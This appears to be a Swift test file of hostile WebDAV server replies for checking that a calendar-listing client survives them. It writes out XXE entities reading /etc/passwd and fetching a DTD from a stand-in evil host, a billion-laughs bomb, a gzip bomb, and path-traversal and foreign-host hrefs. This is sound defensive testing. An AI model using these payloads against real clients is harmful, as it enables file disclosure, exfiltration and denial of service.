// SPDX-License-Identifier: Apache-2.0

import TestSupport

extension Fault {
  /// What listings hold that they should not, or lack.
  static let ofBodies: [Fault] = [
    .answer("b_html_login_200", .fail) { _ in Reply.html("200 OK").steps },
    .answer("b_empty_body_207", .fail, to: .list) { _ in Reply("207 Multi-Status").steps },
    .answer("b_empty_multistatus", .guarded, to: .list) { _ in
      Reply.xml("<d:multistatus xmlns:d=\"DAV:\"/>").steps
    },
    .spelling("b_only_self", .guarded) { $0.isListed = { _ in false } },
    .spelling("b_list_minus_half", .guarded) { $0.isListed = { $0.isMultiple(of: 2) } },
    .spelling("b_dup_hrefs", .ok) { $0.isDoubled = true },
    .spelling("b_foreign_hrefs", .either) { style in
      style.foreign = [
        "http://evil.example.org/cal/i5.ics", "/cal/../../etc/passwd", "/other/i5.ics",
        "/cal/%2e%2e/i5.ics", "//evil.example.org/x.ics", "file:///etc/passwd", "",
      ].map {
        "<d:response><d:href>\($0)</d:href><d:propstat><d:prop><d:getetag>\"9\"</d:getetag></d:prop>"
          + "<d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>"
      }
    },
    .spelling("b_href_escapes", .ok) { $0.escapesHrefs = true },
    .spelling("b_no_etag_in_list", .either) { $0.hasTags = false },
    .spelling("b_tags_half_bare", .ok) { $0.tag = { "\($0)" } },
    .spelling("b_tags_bare", .ok) { style in
      style.tag = { "\($0)" }
      style.headerTag = { "\($0)" }
    },
    .spelling("b_tags_weak", .ok) { style in
      style.tag = { "W/\"\($0)\"" }
      style.headerTag = { "W/\"\($0)\"" }
    },
    .spelling("b_default_ns", .ok) { $0.usesDefaultNamespace = true },
    .spoil("b_href_absolute", .ok) { prefixed($1, with: "http://\($0.request["host"] ?? "")") },
    .spoil("b_href_other_scheme", .ok) {
      prefixed($1, with: "https://\($0.request["host"] ?? "")")
    },
    .spoil("b_href_other_host", .ok) { prefixed($1, with: "http://backend.example:8080") },
    .spoil("b_href_other_server", .ok) { scene, reply in prefixed(reply, with: scene.evil) },
    .spoil("b_href_no_scheme", .ok) { prefixed($1, with: "//backend.example") },
    .spoil("b_bom", .ok, .list) { _, reply in
      var reply = reply
      reply.body = [0xEF, 0xBB, 0xBF] + reply.body
      return reply.steps
    },
    .spoil("b_date_skew", .ok) { _, reply in
      var reply = reply
      reply.fields.append("Date: Fri, 21 Nov 2036 09:00:00 GMT")
      return reply.steps
    },
    .answer("b_flood", .fail, to: .list) { _ in
      Reply.xml(String(repeating: "<!-- more -->", count: 300_000)).steps
    },
    .answer("b_gzip_bomb", .fail, to: .list) { _ in
      compressed(Gzip.bomb(size: 100_000_000)).steps
    },
    .spoil("b_gzip_corrupt", .fail, .list) { _, reply in
      var bytes = Gzip.stored(Array(reply.body.prefix(60_000)))
      bytes[bytes.count - 6] ^= 0xFF
      return compressed(bytes).steps
    },
    .spoil("b_header_huge", .fail, .list) { _, reply in
      var reply = reply
      reply.fields.append("X-Huge: " + String(repeating: "x", count: 8_000_000))
      return reply.steps
    },
    .answer("b_status_garbage", .fail, to: .list) { _ in
      [.send("HTTP/9.9 banana \u{7}\r\n\r\n"), .close]
    },
  ]

  /// The answer with this before each path.
  private static func prefixed(_ reply: Reply, with origin: String) -> [LoopbackServer.Step] {
    var reply = reply
    reply.body = Array(
      String(decoding: reply.body, as: UTF8.self)
        .replacing("<d:href>/", with: "<d:href>\(origin)/").utf8)
    return reply.steps
  }

  private static func compressed(_ bytes: [UInt8]) -> Reply {
    Reply(
      "207 Multi-Status", fields: ["Content-Type: application/xml", "Content-Encoding: gzip"],
      bytes: bytes)
  }

  /// What XML can do to whoever reads it.
  static let ofXML: [Fault] = [
    .answer("b_html_as_xml_207", .fail, to: .list) { _ in
      Reply.xml("<html><body><p>Sign in</p></body></html>").steps
    },
    .answer("b_xml_bomb", .fail, to: .list) { _ in
      let levels = (1...9).map { level in
        "<!ENTITY l\(level) \"" + String(repeating: "&l\(level - 1);", count: 10) + "\">"
      }
      return entities("<!ENTITY l0 \"lol\">" + levels.joined(), use: "&l9;").steps
    },
    .answer("b_xml_quadratic", .fail, to: .list) { _ in
      let long = String(repeating: "a", count: 100_000)
      return entities(
        "<!ENTITY long \"\(long)\">", use: String(repeating: "&long;", count: 20_000)
      ).steps
    },
    .answer("b_xxe_file", .fail, to: .list) { _ in
      entities("<!ENTITY secret SYSTEM \"file:///etc/passwd\">", use: "&secret;").steps
    },
    .answer("b_xxe_http", .fail, to: .list) { scene in
      entities(
        "<!ENTITY % remote SYSTEM \"\(scene.evil)/evil.dtd\">%remote;"
          + "<!ENTITY secret SYSTEM \"\(scene.evil)/secret\">", use: "&secret;"
      ).steps
    },
    .answer("b_xml_deep", .fail, to: .list) { _ in
      Reply.xml(
        "<d:multistatus xmlns:d=\"DAV:\">" + String(repeating: "<d:a>", count: 100_000)
          + String(repeating: "</d:a>", count: 100_000) + "</d:multistatus>"
      ).steps
    },
  ]

  private static func entities(_ declarations: String, use: String) -> Reply {
    Reply.xml(
      "<!DOCTYPE d:multistatus [\(declarations)]><d:multistatus xmlns:d=\"DAV:\"><d:response>"
        + "<d:href>/cal/\(use)</d:href></d:response></d:multistatus>")
  }
}
